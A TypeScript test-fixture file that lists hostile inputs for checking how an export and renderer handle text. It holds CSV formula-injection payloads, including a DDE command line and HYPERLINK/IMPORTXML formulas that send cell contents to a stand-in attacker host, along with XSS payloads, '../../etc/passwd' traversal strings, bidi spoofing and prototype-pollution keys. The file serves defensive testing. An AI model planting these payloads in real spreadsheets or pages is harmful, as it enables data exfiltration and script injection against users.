/**
 * What people, exports and attackers write into text fields. After OWASP's lists of formula injection (CSV Injection) and
 * cross-site scripting, Unicode's list of bidirectional controls (UAX #9), and what spreadsheets are known to turn into
 * something else.
 */

/** Would be a formula, a command, a number, a date, a truth value or an error where a cell is typed into. */
export const FORMULA_TEXTS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\u00A0=1+1",
  "\u3000=1+1",
  "'=1+1",
  "''quoted",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Click here")',
  '=IMPORTXML(CONCAT("https://attacker.example/",A2),"//a")',
  '=IMAGE("https://attacker.example/a.png")',
  '=IMPORTDATA("https://attacker.example/")',
  '=WEBSERVICE("https://attacker.example/")',
  '+HYPERLINK("https://attacker.example")',
  '-HYPERLINK("https://attacker.example")',
  '=REVOPS_EXPLAIN("win rate")',
  "={1,2;3,4}",
  '"=1+1"',
  "TRUE",
  "false",
  "#REF!",
  "#N/A",
  "#DIV/0!",
  "#ERROR!",
  "#NAME?",
  "1e309",
  "1E5",
  "0x10",
  "00123",
  "1-2",
  "1/2",
  "2026-01-05",
  "Jan 5",
  "12:30",
  "50%",
  "$5",
  "€ 5",
  "(5)",
  ".5",
  "٣",
  "-0",
  "123456789012345678901234567890",
  "9".repeat(400),
  "Infinity",
  "NaN",
];

/** Would run, load or break out where a text becomes html, an attribute or an address. */
export const MARKUP_TEXTS: readonly string[] = [
  "<script>window.attacked=1</script>",
  "<img src=x onerror=window.attacked=1>",
  "<svg onload=window.attacked=1>",
  "</script><script>window.attacked=1</script>",
  "</textarea></title></style><img src=x onerror=window.attacked=1>",
  '" onfocus="window.attacked=1" autofocus="',
  "' onmouseover='window.attacked=1",
  "javascript:window.attacked=1",
  "data:text/html,<script>window.attacked=1</script>",
  "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>",
  "<!--",
  "]]>",
  "<![CDATA[",
  "&lt;b&gt;&amp;&#x41;&nbsp;",
  "<!DOCTYPE x [<!ENTITY e 'e'>]>&e;",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder that must stay one
  "${7*7} {{7*7}} <%= 7*7 %> #{7*7}",
  "{Opportunities.amount}",
  "{this} {asOf} {#coverage}",
  "{sheet of Opportunities}",
  "$1 $& $` $'",
  "%s %n %d",
  "..\\..\\windows\\system32",
  "../../etc/passwd",
];

/** Would mislead a reader or trip whoever counts letters. */
export const LETTER_TEXTS: readonly string[] = [
  "\u202Egpj.exe",
  "\u2066isolated\u2069",
  "\u200Fright to left",
  "zero\u200Bwidth\u200D\u2060",
  "\uD800",
  "\uDC00 lone",
  "a\uDBFFb",
  "😀👩‍👩‍👧‍👦🏳️‍🌈",
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
  "first line\nsecond line",
  "first\r\nsecond",
  "tab\tinside",
  "İıſK",
  "ﬁ",
  "\uFFFE",
  "_x0041_ _x000D_",
];

/** Would be found on every object by whoever looks a text up on one, or change all of them. */
export const MEMBER_TEXTS: readonly string[] = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "isPrototypeOf",
  "__defineGetter__",
  "__lookupSetter__",
  "then",
  "toJSON",
  "length",
  "null",
  "undefined",
  "[object Object]",
];

/** No cell, file or window takes these as they are: control characters. */
export const CONTROL_TEXTS: readonly string[] = [
  "nul\u0000inside",
  "bell\u0007",
  "escape\u001B[31m",
  "\u0085next",
];

/** Google takes 50,000 characters in a cell. */
export const LONGEST_TEXT = "x".repeat(50_000);
export const TOO_LONG_TEXT = "x".repeat(50_001);

export const HOSTILE_TEXTS: readonly string[] = [
  ...FORMULA_TEXTS,
  ...MARKUP_TEXTS,
  ...LETTER_TEXTS,
  ...MEMBER_TEXTS,
];

/** A table as text, every cell in quotation marks. */
export const csvOf = (rows: readonly (readonly string[])[], separator = ","): string =>
  rows.map((row) => row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(separator)).join("\n");
